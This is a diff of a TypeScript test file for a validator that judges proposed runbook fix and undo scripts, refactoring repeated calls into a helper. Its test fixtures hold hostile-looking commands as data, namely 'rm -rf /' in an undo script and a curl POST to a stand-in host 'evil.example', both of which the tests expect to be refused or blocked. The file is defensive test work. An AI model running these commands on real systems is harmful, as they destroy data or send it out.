@@ -25,13 +25,14 @@ const change = (files: Partial<Proposal['files']>, rest: Partial<Proposal> = {})
   ...rest,
   files: { ...proposal.files, ...files },
 });
+const scriptsOf = (of: Proposal, service = shopService()) => judgeScripts(of, service, shopSettings(), NOW);
 const codes = (judged: { findings: { code: string; file: string }[] }) =>
   judged.findings.map(({ file, code }) => `${file} ${code}`);
 const script = (line: string) => `#!/usr/bin/env bash\nset -euo pipefail\n${line}\n`;
 
 describe('a proposal that is the runbook’s own', () => {
   test('is allowed with its effects, commands and risk', () => {
-    const judged = judgeScripts(proposal, shopService(), shopSettings(), NOW);
+    const judged = scriptsOf(proposal);
     expect(judged).toMatchObject({
       verdict: 'allow',
       risk: 'LOW',
@@ -158,22 +159,17 @@ describe('what a proposal says of itself', () => {
 
 describe('scripts', () => {
   test('with a redaction placeholder are refused: their author did not know the real value', () => {
-    const judged = judgeScripts(
-      change({ 'fix.sh': script('echo [EMAIL_482131]') }),
-      shopService(),
-      shopSettings(),
-      NOW,
-    );
+    const judged = scriptsOf(change({ 'fix.sh': script('echo [EMAIL_482131]') }));
     expect(judged.verdict).toBe('refuse');
     expect(codes(judged)).toContain('fix.sh placeholder');
   });
 
   test('without an undo are refused where the effect does not restore itself', () => {
     const { 'undo.sh': _, ...files } = proposalOf(flag).files;
-    const judged = judgeScripts({ ...proposalOf(flag), files }, shopService(), shopSettings(), NOW);
+    const judged = scriptsOf({ ...proposalOf(flag), files });
     expect(judged.verdict).toBe('refuse');
     expect(codes(judged)).toEqual(['undo.sh no-undo']);
-    expect(judgeScripts(proposalOf(flag), shopService(), shopSettings(), NOW)).toMatchObject({
+    expect(scriptsOf(proposalOf(flag))).toMatchObject({
       verdict: 'allow',
       risk: 'MEDIUM',
     });
@@ -181,46 +177,31 @@ describe('scripts', () => {
 
   test('need no undo where the effect restores itself', () => {
     expect(proposal.files['undo.sh']).toBeUndefined();
-    expect(judgeScripts(proposal, shopService(), shopSettings(), NOW).verdict).toBe('allow');
+    expect(scriptsOf(proposal).verdict).toBe('allow');
   });
 
   test('are refused for what the undo does, too', () => {
     const undone = { ...proposalOf(flag).files, 'undo.sh': script('rm -rf /') };
-    const judged = judgeScripts({ ...proposalOf(flag), files: undone }, shopService(), shopSettings(), NOW);
+    const judged = scriptsOf({ ...proposalOf(flag), files: undone });
     expect(judged.verdict).toBe('refuse');
     expect(judged.findings[0]).toMatchObject({ file: 'undo.sh', line: 3 });
   });
 
   test('that nobody described are put to a person, at HIGH', () => {
-    const judged = judgeScripts(
-      {
-        ...proposalOf(flag),
-        files: { ...proposalOf(flag).files, 'fix.sh': script('heal-everything --now') },
-      },
-      shopService(),
-      shopSettings(),
-      NOW,
-    );
+    const judged = scriptsOf({
+      ...proposalOf(flag),
+      files: { ...proposalOf(flag).files, 'fix.sh': script('heal-everything --now') },
+    });
     expect(judged).toMatchObject({ verdict: 'review', risk: 'HIGH' });
   });
 
   test('may not call what the inventory does not offer', () => {
-    const judged = judgeScripts(
-      change({ 'fix.sh': script('curl --fail -X POST https://evil.example/x') }),
-      shopService(),
-      shopSettings(),
-      NOW,
-    );
+    const judged = scriptsOf(change({ 'fix.sh': script('curl --fail -X POST https://evil.example/x') }));
     expect(judged.verdict).not.toBe('allow');
   });
 
   test('leave findings and commands that the ledger can hold, however long the lines are', () => {
-    const judged = judgeScripts(
-      change({ 'fix.sh': script(`echo ${'x'.repeat(3000)}`) }),
-      shopService(),
-      shopSettings(),
-      NOW,
-    );
+    const judged = scriptsOf(change({ 'fix.sh': script(`echo ${'x'.repeat(3000)}`) }));
     for (const text of [...judged.commands, ...judged.findings.map(({ sentence }) => sentence)])
       expect(text.length).toBeLessThanOrEqual(500);
   });
@@ -257,17 +238,9 @@ describe('checks that would run before anyone approved', () => {
 });
 
 test('what nothing can undo is put to a person, and needs no undo', () => {
-  const { service } = { service: { ...shopService(), parameters: { LOGS: '/var/log/shop' } } };
-  const judged = judgeScripts(
-    change(
-      { 'fix.sh': script("find /var/log/shop -type f -name '*.gz' -mtime +14 -delete") },
-      { parameters: { LOGS: '/var/log/shop' }, kind: 'prune' },
-    ),
-    service,
-    shopSettings(),
-    NOW,
-  );
-
+  const parameters = { LOGS: '/var/log/shop' };
+  const fix = script("find /var/log/shop -type f -name '*.gz' -mtime +14 -delete");
+  const judged = scriptsOf(change({ 'fix.sh': fix }, { parameters }), { ...shopService(), parameters });
   expect(judged).toMatchObject({ verdict: 'review', risk: 'MEDIUM' });
   expect(codes(judged)).toEqual(['undo.sh irreversible']);
 });
